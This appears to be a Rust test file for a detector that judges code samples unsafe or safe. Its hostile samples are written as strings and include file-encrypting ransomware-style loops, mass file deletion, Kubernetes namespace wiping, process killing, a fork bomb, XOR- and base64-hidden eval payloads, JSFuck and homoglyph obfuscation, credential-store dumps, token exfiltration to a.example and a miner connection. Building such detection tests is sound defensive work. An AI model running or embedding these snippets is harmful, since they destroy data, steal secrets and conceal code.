//! Programs that destroy, hide or hoard by ways that no single call shows; and the same ways at
//! honest work.

mod judging;

use judging::{all_safe, is_unsafe};

#[test]
fn files_found_and_encrypted_where_they_are() {
    let destroys = "destroy-files";
    // Through a class, a generator and a root that comes from the command line.
    is_unsafe(
        "python",
        "import os, sys\nfrom cryptography.fernet import Fernet\nclass Box:\n    def __init__(self, top):\n        self.top = top\n        self.f = Fernet(Fernet.generate_key())\n    def each(self):\n        for d, _, names in os.walk(self.top):\n            for n in names:\n                yield os.path.join(d, n)\n    def close(self, name):\n        f = Fernet(Fernet.generate_key())\n        with open(name, 'r+b') as h:\n            old = h.read()\n            h.seek(0)\n            h.write(f.encrypt(old))\n    def go(self):\n        for n in self.each():\n            self.close(n)\nBox(sys.argv[1]).go()\n",
        destroys,
    );
    all_safe(
        "python",
        &[
            "from cryptography.fernet import Fernet\nf = Fernet(open('key.bin', 'rb').read())\ndata = open('notes.txt', 'rb').read()\nopen('notes.enc', 'wb').write(f.encrypt(data))\n",
            "import os\nfor d, _, names in os.walk('src'):\n    for n in names:\n        p = os.path.join(d, n)\n        text = open(p).read()\n        open(p, 'w').write(text.replace('\\t', '    '))\n",
        ],
    );
}

#[test]
fn every_place_of_a_list_is_looked_at() {
    is_unsafe(
        "javascript",
        "const fs = require('fs'), path = require('path');\nfunction blank(dir) {\n  for (const name of fs.readdirSync(dir)) {\n    const it = path.join(dir, name);\n    if (fs.statSync(it).isDirectory()) blank(it);\n    else fs.writeFileSync(it, '');\n  }\n}\n['.', '..', '../..', '/home'].forEach(blank);\n",
        "destroy-files",
    );
    all_safe(
        "javascript",
        &[
            "const fs = require('fs'), path = require('path');\nfunction clean(dir) {\n  for (const name of fs.readdirSync(dir)) {\n    const it = path.join(dir, name);\n    if (fs.statSync(it).isDirectory()) clean(it);\n    else fs.unlinkSync(it);\n  }\n}\n['dist', 'coverage'].forEach(clean);\n",
            "const fs = require('fs'), path = require('path');\nfs.rmSync(path.join(__dirname, '..', 'build'), { recursive: true });\n",
        ],
    );
    all_safe(
        "python",
        &[
            "import os, shutil\nhere = os.path.dirname(os.path.abspath(__file__))\nshutil.rmtree(os.path.join(here, '..', 'build'), ignore_errors=True)\n",
        ],
    );
    is_unsafe(
        "javascript",
        "const fs = require('fs'), path = require('path');\nfs.rmSync(path.join(__dirname, '..', '..'), { recursive: true });\n",
        "destroy-files",
    );
}

#[test]
fn letters_made_of_numbers_that_a_file_holds() {
    is_unsafe(
        "javascript",
        "const fs = require('fs');\nconst text = fs.readFileSync('icon.png', 'latin1');\nconst out = text.split('').map(c => String.fromCharCode(c.charCodeAt(0) ^ 7)).join('');\neval(out);\n",
        "code-hidden",
    );
    is_unsafe(
        "python",
        "data = open('icon.png', 'rb').read()[40:]\nexec(''.join(chr(b ^ 7) for b in data))\n",
        "code-hidden",
    );
    all_safe(
        "javascript",
        &[
            "const codes = require('./codes.json');\nconsole.log(codes.map(c => String.fromCharCode(c)).join(''));\n",
        ],
    );
}

#[test]
fn a_constructor_reached_through_anything() {
    is_unsafe(
        "javascript",
        "try { fail(); } catch ({ constructor: make }) {\n  make.constructor('return process')().exit();\n}\n",
        "obfuscated-name",
    );
    all_safe(
        "javascript",
        &["class A { copy() { return new this.constructor('a'); } }\nnew A().copy();\n"],
    );
}

#[test]
fn clusters_and_accounts_emptied() {
    let destroys = "destroy-data";
    is_unsafe(
        "go",
        "package main\n\nimport (\n\t\"context\"\n\n\tmeta \"k8s.io/apimachinery/pkg/apis/meta/v1\"\n\t\"k8s.io/client-go/kubernetes\"\n\t\"k8s.io/client-go/rest\"\n)\n\nfunc main() {\n\tc, _ := rest.InClusterConfig()\n\tk, _ := kubernetes.NewForConfig(c)\n\tk.AppsV1().Deployments(\"\").DeleteCollection(context.TODO(), meta.DeleteOptions{}, meta.ListOptions{})\n}\n",
        destroys,
    );
    is_unsafe(
        "javascript",
        "const k8s = require('@kubernetes/client-node');\nconst c = new k8s.KubeConfig();\nconst api = c.makeApiClient(k8s.CoreV1Api);\napi.listNamespace().then(l => l.items.forEach(n => api.deleteNamespace(n.metadata.name)));\n",
        destroys,
    );
    all_safe(
        "go",
        &[
            "package main\n\nimport (\n\t\"context\"\n\t\"fmt\"\n\n\tmeta \"k8s.io/apimachinery/pkg/apis/meta/v1\"\n\t\"k8s.io/client-go/kubernetes\"\n\t\"k8s.io/client-go/rest\"\n)\n\nfunc main() {\n\tc, _ := rest.InClusterConfig()\n\tk, _ := kubernetes.NewForConfig(c)\n\tpods, _ := k.CoreV1().Pods(\"\").List(context.TODO(), meta.ListOptions{})\n\tfmt.Println(len(pods.Items))\n}\n",
        ],
    );
}

#[test]
fn processes_by_their_numbers() {
    is_unsafe(
        "python",
        "import os, psutil\nfor p in psutil.process_iter():\n    if p.pid != os.getpid():\n        os.kill(p.pid, 9)\n",
        "system-stop",
    );
    all_safe(
        "python",
        &["import psutil\nfor p in psutil.process_iter():\n    print(p.pid, p.name())\n"],
    );
}

#[test]
fn loops_that_hoard_or_multiply() {
    let bomb = "fork-bomb";
    is_unsafe(
        "go",
        "package main\n\nimport (\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc main() {\n\tfor {\n\t\tc := exec.Command(os.Args[0])\n\t\tc.Start()\n\t}\n}\n",
        bomb,
    );
    all_safe(
        "go",
        &[
            "package main\n\nfunc main() {\n\tvar kept [][]byte\n\tfor {\n\t\tpage := read()\n\t\tif page == nil {\n\t\t\tbreak\n\t\t}\n\t\tkept = append(kept, page)\n\t}\n}\n",
        ],
    );
}

#[test]
fn scripts_of_signs_alone() {
    let six = "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]()";
    is_unsafe("javascript", six, "obfuscated-text");
    is_unsafe(
        "javascript",
        "$=~[];$={___:++$,$$$$:(![]+\"\")[$],__$:++$,$_$_:(![]+\"\")[$]};\n",
        "obfuscated-text",
    );
    all_safe(
        "javascript",
        &["const grid = [[[]], [[]], [[]]];\nif (!(grid[0] || !(grid[1]))) grid[+(!1)] = [];\n"],
    );
}

#[test]
fn tools_that_build_may_be_run_by_a_few_lines() {
    all_safe(
        "javascript",
        &[
            "const { execSync } = require('child_process');\nif (!process.env.CI) execSync('npm run build && git status', { stdio: 'inherit' });\n",
        ],
    );
    all_safe("python", &["import os\nos.system('make docs')\n"]);
    // What they are told to do is judged all the same.
    is_unsafe(
        "python",
        "import os\nos.system('git push --force origin main')\n",
        "destroy-history",
    );
    is_unsafe("python", "import os\nos.system('id')\n", "exec-process");
}

#[test]
fn stores_of_secrets_are_not_listed() {
    is_unsafe(
        "python",
        "import secretstorage\nc = secretstorage.get_any_collection(secretstorage.dbus_init())\nfor i in c.get_all_items():\n    print(i.get_secret())\n",
        "credential-read",
    );
    is_unsafe(
        "go",
        "package main\n\nimport \"github.com/danieljoos/wincred\"\n\nfunc main() {\n\tall, _ := wincred.List()\n\tfor _, c := range all {\n\t\tprintln(string(c.CredentialBlob))\n\t}\n}\n",
        "credential-read",
    );
}

#[test]
fn modules_compiled_out_of_sight() {
    is_unsafe(
        "javascript",
        "const Module = module.constructor;\nconst m = new Module();\nm._compile(Buffer.from(process.env.BLOB, 'base64').toString(), 'x.js');\n",
        "code-hidden",
    );
    is_unsafe(
        "javascript",
        "const c = require('crypto').createDecipheriv('aes-256-cbc', k, v);\nconst m = new module.constructor();\nm._compile(c.update(text, 'hex', 'utf8') + c.final('utf8'), '');\n",
        "code-hidden",
    );
    all_safe(
        "javascript",
        &["class Sass { _compile(a) { return a; } }\nconsole.log(new Sass()._compile);\n"],
    );
}

#[test]
fn a_token_logs_in_and_is_not_given_away() {
    all_safe(
        "python",
        &[
            "import os, requests\nt = os.environ['CHAT_TOKEN']\nrequests.post('https://chat.example/api', headers={'Authorization': f'Bearer {t}'}, json={'text': 'built'})\n",
            "import os, requests\nrequests.get('https://api.example/v1', auth=('me', os.environ['API_PASSWORD']))\n",
            "import platform, requests\nrequests.get('https://api.example/v1', headers={'User-Agent': 'tool/1 ' + platform.platform()})\n",
        ],
    );
    all_safe(
        "javascript",
        &[
            "fetch('https://api.example/v1', { method: 'POST', headers: { 'X-Api-Key': process.env.API_KEY }, body: '{}' });\n",
            "require('axios').post('https://api.example/v1', { a: 1 }, { headers: { authorization: process.env.API_TOKEN } });\n",
        ],
    );
    let leaves = "exfiltration";
    is_unsafe(
        "python",
        "import os, requests\nrequests.get('https://a.example/', headers={'X-Note': os.environ['DEPLOY_TOKEN']})\n",
        leaves,
    );
    is_unsafe(
        "javascript",
        "fetch('https://a.example/', { method: 'POST', headers: { 'X-Api-Key': 'k' }, body: process.env.NPM_TOKEN });\n",
        leaves,
    );
}

#[test]
fn files_without_end() {}

#[test]
fn names_in_letters_that_are_not_theirs() {
    let hidden = "obfuscated-name";
    is_unsafe(
        "python",
        "import \u{1d5c8}\u{1d5cc} as o\no.listdir('.')\n",
        hidden,
    );
    is_unsafe("python", "\u{ff45}val(input())\n", hidden);
    is_unsafe("python", "import os\nos.s\u{1d502}stem('ls')\n", hidden);
    is_unsafe("javascript", "\\u0065val(location.hash)\n", hidden);
    all_safe(
        "python",
        &[
            "gr\u{f6}\u{df}e = 3\nprint(gr\u{f6}\u{df}e)\n",
            "\u{3c0} = 3.14\nprint(\u{3c0})\n",
        ],
    );
}

#[test]
fn the_words_of_miners() {
    is_unsafe(
        "javascript",
        "const s = require('net').connect(3333, 'pool.example');\ns.write(JSON.stringify({ id: 1, method: 'mining.authorize', params: ['w', 'x'] }));\n",
        "network-host",
    );
    all_safe(
        "python",
        &["print('data mining.')\ntopic = 'mining.reports'\n"],
    );
}
